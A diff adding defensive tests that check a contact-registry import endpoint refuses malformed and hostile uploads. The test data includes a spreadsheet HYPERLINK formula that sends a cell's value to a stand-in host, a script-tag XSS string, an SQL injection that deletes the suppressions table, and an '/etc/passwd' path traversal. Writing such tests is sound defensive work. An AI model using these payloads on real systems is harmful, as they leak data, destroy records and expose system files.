@@ -80,6 +80,31 @@ describe("an answer of the registry", () => {
   });
 });
 
+describe("a hostile answer", () => {
+  test.each([
+    ["a picture", "\u0089PNG\r\n\u0000\u0000"],
+    ["a cell of a megabyte", `a@example.test,${"x".repeat(1_000_000)}`],
+    ["a quotation mark that is never closed", `"a@example.test\n${"b@example.test\n".repeat(2_000)}`],
+    ["a row of a million commas", `a@example.test${",".repeat(1_000_000)}`],
+    ["nothing but line breaks", "\n".repeat(10_000)],
+  ])("that is %s is refused, and leaves nothing behind", async (_, content) => {
+    const before = await asPlatform(() => db.registryImport.count({ where: { actor_id: admin.id } }));
+    const { status, body } = await send(content, today());
+    expect([status, body]).toEqual([422, expect.objectContaining({ errors: { file: [expect.any(String)] } })]);
+    expect(await asPlatform(() => db.registryImport.count({ where: { actor_id: admin.id } }))).toBe(before);
+  });
+
+  test("suppresses nobody by formulas, markup and cells that only look like contacts", async () => {
+    const email = `${unique()}@example.test`;
+    const cells = [
+      ...[`=HYPERLINK("http://x.test/?"&A1)`, "<script>alert(1)</script>@", "'; DELETE FROM suppressions; --"],
+      ...["+1", "0000000000", "a@b", `${"a".repeat(300)}@example.test`, "g".repeat(64), "../../etc/passwd"],
+    ];
+    const answer = await importAnswer([email, ...cells.map((cell) => `"${cell.replaceAll('"', '""')}"`)].join("\n"));
+    expect(answer).toMatchObject({ rows: cells.length + 1, invalid: cells.length, contacts: 1, added: 1 });
+  });
+});
+
 describe("the list to be cleansed", () => {
   test("has the contacts of all organisations, in plain or as the hashes of the same", async () => {
     const email = `${unique()}@example.test`;
